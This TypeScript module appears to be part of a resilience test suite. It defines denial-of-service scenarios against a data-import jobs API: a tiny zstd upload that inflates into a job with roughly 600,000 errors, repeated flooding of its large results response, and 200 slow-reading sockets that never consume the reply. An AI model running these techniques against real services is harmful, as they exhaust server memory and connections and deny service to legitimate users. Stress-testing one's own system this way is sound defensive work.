import { Agent } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { zstdCompressSync } from 'node:zlib';
import { flood, post, sendOne, type Target, type Attack } from './attack-load.ts';
import { openRaw } from '../support/raw-http.ts';

const JOBS = '/v1/data-import/import-jobs/';
const SLOW_READERS = 200;

/** 300 lines of 1,100 faulty notes: 1 MB, about 125 bytes in zstd, and a response of several megabytes. */
export const FAULTY_LINES = 300;
export const FAULTY_LINE = `{"external_account_number":"N1","notes":[${Array.from({ length: 1_100 }, () => '{}').join(',')}]}\n`;

/** Validates a job with many errors for each line; resolves to the path of its results. */
async function validateFaultyJob(target: Target): Promise<string> {
  const agent = new Agent({ keepAlive: true });
  const call = async (request: Parameters<typeof sendOne>[1], expected: string) => {
    const { status, text } = await sendOne(target, request, agent);
    if (status !== expected) throw new Error(`${request.path} returned ${status}: ${text.slice(0, 500)}`);
    return JSON.parse(text) as { job_id: string; status: string };
  };
  const { job_id: jobId } = await call(
    post(JOBS, { import_supplier: 'ATTACKER', kind: 'notes', goal: 'VALIDATE' }),
    '201',
  );
  const part = await fetch(`${target.url}${JOBS}${jobId}/parts/1/`, {
    method: 'PUT',
    headers: {
      authorization: `Token ${target.token}`,
      'content-type': 'application/x-ndjson',
      'content-encoding': 'zstd',
    },
    body: new Uint8Array(zstdCompressSync(Buffer.from(FAULTY_LINE.repeat(FAULTY_LINES)))),
  });
  if (!part.ok) throw new Error(`the upload returned ${part.status}: ${await part.text()}`);
  await call({ method: 'POST', path: `${JOBS}${jobId}/start/` }, '200');
  while ((await call({ method: 'GET', path: `${JOBS}${jobId}/` }, '200')).status !== 'COMPLETED') await sleep(200);
  agent.destroy();
  return `${JOBS}${jobId}/results/?outcome=failed`;
}

/** Two clients read the results again and again. */
export const readResults: Attack = {
  name: 'results of a job with 600,000 errors, read by two clients',
  prepare: async (target) => {
    const path = await validateFaultyJob(target);
    // Compiles the code and grows the heap to its usual size.
    await flood(target, { connections: 2, seconds: 60, count: 20, next: () => ({ method: 'GET', path }) });
    return () => flood(target, { connections: 2, seconds: 6, next: () => ({ method: 'GET', path }) });
  },
};

/** Clients that send a request for results and read nothing of the response. */
export const unreadResults: Attack = {
  name: `results of a job with 600,000 errors, requested by ${SLOW_READERS} clients that do not read`,
  prepare: async (target) => {
    const path = await validateFaultyJob(target);
    return async () => {
      const statuses: Record<string, number> = {};
      const connections = await Promise.all(Array.from({ length: SLOW_READERS }, () => openRaw(target.url)));
      for (const { socket, write } of connections) {
        socket.once('data', (chunk) => {
          const status = chunk.toString('latin1').slice(9, 12);
          statuses[status] = (statuses[status] ?? 0) + 1;
          socket.pause();
        });
        write(`GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Token ${target.token}\r\n\r\n`);
      }
      await sleep((target.seconds ?? 6) * 1_000);
      for (const { socket } of connections) socket.destroy();
      return statuses;
    };
  },
};
